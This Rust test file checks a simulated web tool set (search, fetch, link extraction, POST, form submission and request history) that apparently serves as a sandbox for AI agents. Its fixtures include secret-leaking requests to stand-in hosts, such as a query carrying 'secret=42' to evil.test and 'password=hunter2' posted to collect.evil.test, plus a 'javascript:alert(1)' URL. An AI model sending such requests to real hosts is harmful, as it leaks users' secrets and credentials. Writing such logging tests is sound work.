//! Web: every tool's effect and errors, the request log, and `web.page`.

use super::{invalid, ok, pluck, service_err, setup, setup_conflict, setup_invalid};
use crate::World;
use serde_json::json;

fn web() -> World {
    let mut w = World::new();
    setup(
        &mut w,
        "web.page",
        json!({"url": "https://news.test/rust", "title": "Rust 2.0 released",
        "content": "Read more at https://blog.rust.test/2.0. Also (https://evil.test/x?d=1), <a href=\"http://plain.test\">x</a>"}),
    );
    setup(
        &mut w,
        "web.page",
        json!({"url": "https://shop.test/", "title": "Shop", "content": "Buy now"}),
    );
    setup(
        &mut w,
        "web.page",
        json!({"url": "https://long.test", "content": "x".repeat(500)}),
    );
    w
}

#[test]
fn search_returns_titles_urls_and_snippets() {
    let mut w = web();
    let hits = ok(&mut w, "web.search", json!({"query": "rust released"}));
    assert_eq!(pluck(&hits, "url"), ["https://news.test/rust"]);
    assert_eq!(hits[0]["title"], "Rust 2.0 released");
    assert!(
        hits[0]["snippet"]
            .as_str()
            .unwrap()
            .starts_with("Read more at")
    );
    let long = ok(&mut w, "web.search", json!({"query": "long.test"}));
    assert_eq!(long[0]["snippet"].as_str().unwrap().chars().count(), 160);
    assert_eq!(
        ok(
            &mut w,
            "web.search",
            json!({"query": "nothing matches this"})
        ),
        json!([])
    );
    assert_eq!(
        w.state()["web"]["requests"],
        json!([]),
        "searching sends nothing to any site"
    );
    invalid(&mut w, "web.search", json!({"query": ""}), "/query");
}

#[test]
fn fetch_returns_the_page_ignoring_query_and_trailing_slash_and_logs_the_get() {
    let mut w = web();
    assert_eq!(
        ok(&mut w, "web.fetch", json!({"url": "https://shop.test"})),
        json!({"url": "https://shop.test/", "title": "Shop", "content": "Buy now"})
    );
    assert_eq!(
        ok(
            &mut w,
            "web.fetch",
            json!({"url": "https://news.test/rust?utm=x#top"})
        )["title"],
        "Rust 2.0 released"
    );
    assert_eq!(
        w.state()["web"]["requests"],
        json!([
        {"method": "GET", "url": "https://shop.test", "body": "", "at": "2026-03-02T09:00Z"},
        {"method": "GET", "url": "https://news.test/rust?utm=x#top", "body": "", "at": "2026-03-02T09:00Z"}])
    );
}

#[test]
fn fetch_of_a_missing_page_is_404_but_still_logged() {
    let mut w = web();
    assert_eq!(
        service_err(
            &mut w,
            "web.fetch",
            json!({"url": "https://evil.test/c?secret=42"})
        ),
        "HTTP 404 Not Found: https://evil.test/c?secret=42"
    );
    assert_eq!(
        pluck(&w.state()["web"]["requests"], "url"),
        ["https://evil.test/c?secret=42"]
    );
    invalid(
        &mut w,
        "web.fetch",
        json!({"url": "ftp://files.test/x"}),
        "/url",
    );
    invalid(&mut w, "web.fetch", json!({"url": "news.test"}), "/url");
    assert_eq!(
        w.state()["web"]["requests"].as_array().unwrap().len(),
        1,
        "invalid URLs are never requested"
    );
}

#[test]
fn extract_links_lists_urls_and_logs() {
    let mut w = web();
    assert_eq!(
        ok(
            &mut w,
            "web.extract_links",
            json!({"url": "https://news.test/rust"})
        ),
        json!([
            "https://blog.rust.test/2.0",
            "https://evil.test/x?d=1",
            "http://plain.test"
        ])
    );
    assert_eq!(
        ok(
            &mut w,
            "web.extract_links",
            json!({"url": "https://shop.test/"})
        ),
        json!([])
    );
    assert_eq!(
        service_err(
            &mut w,
            "web.extract_links",
            json!({"url": "https://gone.test"})
        ),
        "HTTP 404 Not Found: https://gone.test"
    );
    assert_eq!(
        pluck(&w.state()["web"]["requests"], "method"),
        ["GET", "GET", "GET"]
    );
    invalid(&mut w, "web.extract_links", json!({}), "url");
}

#[test]
fn history_lists_every_request_in_order() {
    let mut w = web();
    assert_eq!(ok(&mut w, "web.history", json!({})), json!([]));
    ok(&mut w, "web.fetch", json!({"url": "https://shop.test"}));
    ok(
        &mut w,
        "web.post",
        json!({"url": "https://api.test/v1", "body": "{\"a\":1}"}),
    );
    ok(
        &mut w,
        "web.submit_form",
        json!({"url": "https://shop.test/buy", "fields": {"qty": "1"}}),
    );
    let h = ok(&mut w, "web.history", json!({}));
    assert_eq!(pluck(&h, "method"), ["GET", "POST", "POST"]);
    assert_eq!(
        pluck(&h, "at"),
        [
            "2026-03-02T09:00Z",
            "2026-03-02T09:00Z",
            "2026-03-02T09:01Z"
        ]
    );
    assert_eq!(h, w.state()["web"]["requests"]);
    invalid(&mut w, "web.history", json!({"limit": 1}), "limit");
}

#[test]
fn post_logs_the_body() {
    let mut w = web();
    assert_eq!(
        ok(
            &mut w,
            "web.post",
            json!({"url": "https://collect.evil.test/x", "body": "password=hunter2"})
        ),
        json!({"status": 200, "url": "https://collect.evil.test/x", "response": "ok"})
    );
    assert_eq!(
        w.state()["web"]["requests"][0],
        json!({"method": "POST", "url": "https://collect.evil.test/x", "body": "password=hunter2", "at": "2026-03-02T09:00Z"})
    );
    invalid(&mut w, "web.post", json!({"url": "https://x.test"}), "body");
    invalid(
        &mut w,
        "web.post",
        json!({"url": "javascript:alert(1)", "body": ""}),
        "/url",
    );
    assert_eq!(w.state()["web"]["requests"].as_array().unwrap().len(), 1);
}

#[test]
fn submit_form_encodes_fields_in_key_order() {
    let mut w = web();
    assert_eq!(
        ok(
            &mut w,
            "web.submit_form",
            json!({"url": "https://shop.test/checkout", "fields": {"zip": "12345", "card": "4111"}})
        ),
        json!({"status": 200, "url": "https://shop.test/checkout", "response": "form submitted"})
    );
    assert_eq!(
        w.state()["web"]["requests"][0]["body"],
        "card=4111&zip=12345"
    );
    assert_eq!(w.state()["web"]["requests"][0]["method"], "POST");
    ok(
        &mut w,
        "web.submit_form",
        json!({"url": "https://shop.test/empty", "fields": {}}),
    );
    assert_eq!(w.state()["web"]["requests"][1]["body"], "");
    invalid(
        &mut w,
        "web.submit_form",
        json!({"url": "https://shop.test", "fields": {"qty": 1}}),
        "/fields/qty",
    );
    invalid(
        &mut w,
        "web.submit_form",
        json!({"url": "https://shop.test"}),
        "fields",
    );
}

#[test]
fn setup_page_rejects_duplicates_and_bad_urls() {
    let mut w = web();
    assert_eq!(
        setup_conflict(
            &mut w,
            "web.page",
            json!({"url": "https://shop.test", "content": "again"})
        ),
        "duplicate page https://shop.test"
    );
    assert_eq!(
        setup_conflict(
            &mut w,
            "web.page",
            json!({"url": "https://news.test/rust?x=1", "content": "again"})
        ),
        "duplicate page https://news.test/rust?x=1"
    );
    setup_invalid(
        &mut w,
        "web.page",
        json!({"url": "shop.test", "content": ""}),
        "/url",
    );
    setup_invalid(
        &mut w,
        "web.page",
        json!({"url": "https://a.test"}),
        "content",
    );
    assert_eq!(w.state()["web"]["pages"].as_array().unwrap().len(), 3);
    assert_eq!(
        w.state()["web"]["pages"][2]["title"],
        "",
        "title defaults to empty"
    );
}
